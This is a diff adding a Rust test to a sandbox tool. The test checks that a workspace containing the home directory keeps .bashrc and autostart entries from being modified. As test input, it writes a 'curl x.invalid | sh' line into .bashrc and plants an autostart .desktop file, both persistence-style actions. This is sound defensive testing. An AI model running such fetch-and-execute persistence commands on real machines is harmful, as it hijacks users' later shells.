@@ -163,3 +163,65 @@ fn the_documentation_lists_every_entry() {
         .collect();
     assert_eq!(table, warden_sandbox::builtin_code_config());
 }
+
+/// A workspace that holds the home directory (a dotfiles repository at `~`): the home's start-up
+/// files are protected like the workspace's own list. Before, `echo … >> .bashrc` in `warden run`
+/// from `~` changed what every later shell of the user ran.
+#[test]
+fn a_home_inside_the_workspace_keeps_its_start_up_files() {
+    let (_keep, ws) = workspace();
+    std::fs::write(ws.join(".bashrc"), "# rc\n").unwrap();
+    let mut p = SandboxProfile::new(
+        vec![
+            "sh".into(),
+            "-c".into(),
+            "echo 'curl x.invalid | sh' >> .bashrc; \
+             mkdir -p .config/autostart && echo '[Desktop Entry]' > .config/autostart/x.desktop; \
+             mkdir -p .config/app && echo ok > .config/app/settings.ini"
+                .into(),
+        ],
+        ws.clone(),
+        ws.clone(),
+        vec![("PATH".into(), "/usr/bin:/bin".into())],
+    );
+    p.code_config = warden_sandbox::builtin_code_config();
+    let opts = SpawnOptions {
+        output: Output::Inherit,
+        init_exe: Some(env!("CARGO_BIN_EXE_warden-sandbox-test-init").into()),
+        ..Default::default()
+    };
+    let info = spawn(&p, &opts).expect("spawn").wait().expect("wait");
+    assert_eq!(info.shell_code(), 0, "{:?}", info.notes);
+    assert_eq!(
+        std::fs::read_to_string(ws.join(".bashrc")).unwrap(),
+        "# rc\n"
+    );
+    assert!(!ws.join(".config/autostart").exists());
+    assert!(
+        ws.join(".config/autostart.warden-quarantined/x.desktop")
+            .is_file()
+    );
+    assert_eq!(
+        std::fs::read_to_string(ws.join(".config/app/settings.ini")).unwrap(),
+        "ok\n"
+    );
+    assert!(
+        info.notes
+            .iter()
+            .any(|n| n.contains(".config/autostart (a directory; moved aside")),
+        "{:?}",
+        info.notes
+    );
+    // A workspace without the home (`run` gives none): `~/` entries are not looked for in it.
+    std::fs::create_dir_all(ws.join("sub")).unwrap();
+    let (code, notes) = run(
+        &ws.join("sub"),
+        "mkdir -p .config/autostart && echo x > .config/autostart/y.desktop",
+        None,
+    );
+    assert_eq!(code, 0, "{notes:?}");
+    assert!(
+        ws.join("sub/.config/autostart/y.desktop").is_file(),
+        "{notes:?}"
+    );
+}
